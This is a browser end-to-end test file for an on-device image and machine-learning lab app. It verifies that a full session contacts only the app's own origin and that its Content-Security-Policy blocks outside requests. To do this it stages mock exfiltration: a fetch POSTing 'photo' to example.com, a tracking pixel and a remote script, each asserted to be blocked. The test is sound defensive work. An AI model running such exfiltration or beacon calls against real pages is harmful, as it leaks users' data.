// Privacy: a whole session — load, camera, import, train, live prediction, export — makes no
// request to any origin but the app's own, and the Content-Security-Policy would stop one.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { zip } from './zip.mjs';
import { useApp, server, browser } from './harness.mjs';


useApp();

/** Small PNGs drawn in the page. */
async function pngs(page, n) {
  const b64 = await page.evaluate((n) => {
    const out = [];
    for (let i = 0; i < n; i++) {
      const c = document.createElement('canvas');
      c.width = 40; c.height = 40;
      const g = c.getContext('2d');
      g.fillStyle = i % 2 ? '#2255aa' : '#c87533';
      g.fillRect(0, 0, 40, 40);
      g.fillStyle = '#fff';
      g.fillRect(5 + i, 5, 10, 10);
      out.push(c.toDataURL('image/png').split(',')[1]);
    }
    return out;
  }, n);
  return b64.map((s) => Buffer.from(s, 'base64'));
}

test('a whole session requests nothing but the app’s own files, and the policy would block anything else', async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'ja-JP', acceptDownloads: true });
  await context.grantPermissions(['camera']);
  const requests = new Set();
  context.on('request', (r) => requests.add(r.url()));
  const answered = new Set();
  const failed = new Map();
  context.on('response', (r) => answered.add(r.url()));
  context.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText));
  // Violations of the policy, as the page sees them.
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  page.on('request', (r) => requests.add(r.url()));
  page.on('response', (r) => answered.add(r.url()));
  page.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText));
  page.on('worker', (w) => w.on('console', () => {}));
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });

  // Load: the policy is in the page, the promise is on it.
  await page.goto(`${server.url}?lang=ja#/image`);
  await page.locator('h1').waitFor();
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  for (const d of ["default-src 'none'", "connect-src 'self' blob: data:", "img-src 'self' blob: data:", "object-src 'none'"]) {
    assert.ok(csp.includes(d), `${d} in ${csp}`);
  }
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'$|script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+';/);
  assert.equal((await page.textContent('#privacy-line')).trim(), '🔒 写真はこの端末から出ません（通信はこのアプリ自身のファイルだけ）');

  // Camera: the image lab's live filter, and a frame taken as the photo.
  await page.locator('#image-original').waitFor();
  await page.click('#camera-start');
  await page.waitForFunction(() => document.querySelector('#camera-ms')?.dataset.ms, null, { timeout: 30_000 });
  await page.click('#camera-capture');
  await page.getByText('大きさ: 640 × 480').waitFor({ timeout: 10_000 });
  await page.click('#camera-stop');

  // Import: a zip of two classes into a new dataset, then exported again.
  await page.click('nav.labs a[href="#/data"]');
  await page.locator('#dataset-create:not([disabled])').waitFor();
  const images = await pngs(page, 8);
  const archive = zip(images.map((b, i) => [`shapes/${i % 2 ? 'blue' : 'orange'}/${i}.png`, b]));
  await page.setInputFiles('#import-zip', { name: 'shapes.zip', mimeType: 'application/zip', buffer: archive });
  await page.locator('#import-report', { hasText: '8 枚を取り込み' }).waitFor({ timeout: 30_000 });
  const [zipDownload] = await Promise.all([page.waitForEvent('download'), page.click('#export-zip')]);
  assert.match(zipDownload.url(), /^blob:|^data:/);

  // Train on the built-in digits (1 epoch), predict live from the webcam, export everything.
  await page.click('nav.labs a[href="#/train"]');
  await page.locator('#train-button:not([disabled])').waitFor({ timeout: 30_000 });
  await page.fill('#epochs', '1');
  await page.dispatchEvent('#epochs', 'change');
  await page.click('#train-button');
  await page.getByText('学習が終わりました').waitFor({ timeout: 300_000 });
  await page.click('#live-start');
  await page.waitForFunction(() => Number(document.querySelector('#live-probabilities')?.dataset.count) >= 5, null, { timeout: 60_000 });
  await page.click('#live-stop');
  for (const button of ['#save-model', '#report']) {
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
    assert.match(download.url(), /^blob:|^data:/, button);
  }
  await page.click('#save-model-browser');
  await page.locator('#saved-models tr.saved-model').first().waitFor({ timeout: 60_000 });

  // Share: the link and its QR code are made here, not by a service.
  await page.click('nav.labs a[href="#/share"]');
  await page.locator('svg#share-qr').waitFor();

  // Everything fetched came from the app itself (its worker's wasm included) or was local.
  const urls = [...requests];
  // (Chromium has WebAssembly SIMD, so www/worker-loader.js takes the SIMD build.)
  assert.ok(urls.some((u) => u.endsWith('/imagelab-worker-simd_bg.wasm')), `the worker's requests are recorded: ${urls.join('\n')}`);
  const foreign = urls.filter((u) => !u.startsWith(server.url) && !u.startsWith('blob:') && !u.startsWith('data:'));
  assert.deepEqual(foreign, [], 'requests to other origins');
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  assert.deepEqual(errors, []);

  // Were the page to try (an injected script, a bad dependency), the policy stops it: a fetch,
  // an image and a script from elsewhere are refused before they leave the browser.
  const outcome = await page.evaluate(async () => {
    const fetched = await fetch('https://example.com/upload', { method: 'POST', body: 'photo' }).then(() => 'sent', () => 'blocked');
    const img = await new Promise((resolve) => {
      const i = new Image();
      i.onload = () => resolve('loaded');
      i.onerror = () => resolve('blocked');
      i.src = 'https://example.com/pixel.gif';
    });
    const script = await new Promise((resolve) => {
      const s = document.createElement('script');
      s.onload = () => resolve('loaded');
      s.onerror = () => resolve('blocked');
      s.src = 'https://example.com/x.js';
      document.head.append(s);
    });
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, img, script, violations: window.__violations };
  });
  assert.deepEqual([outcome.fetched, outcome.img, outcome.script], ['blocked', 'blocked', 'blocked']);
  for (const d of ['connect-src', 'img-src', 'script-src']) {
    assert.ok(outcome.violations.some((v) => v.startsWith(d) && v.includes('example.com')), `${d}: ${outcome.violations}`);
  }
  // Chromium reports the attempt, then fails it inside the browser: no answer ever came.
  assert.ok(![...answered].some((u) => u.includes('example.com')), 'nothing reached the network');
  for (const [u, why] of failed) if (u.includes('example.com')) assert.match(why, /csp/i, u);
  await context.close();
});
